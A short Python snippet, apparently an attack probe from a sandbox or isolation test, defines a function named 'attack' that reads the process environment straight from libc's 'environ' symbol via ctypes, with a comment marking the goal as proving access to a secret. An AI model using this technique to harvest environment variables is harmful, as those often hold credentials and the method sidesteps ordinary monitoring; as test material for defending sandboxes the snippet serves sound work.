# Reads the environment where libc keeps it.
# proof: secret
import ctypes


def attack(arg):
    environ, out = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ"), []
    for entry in environ:
        if entry is None:
            return out
        out.append(entry)
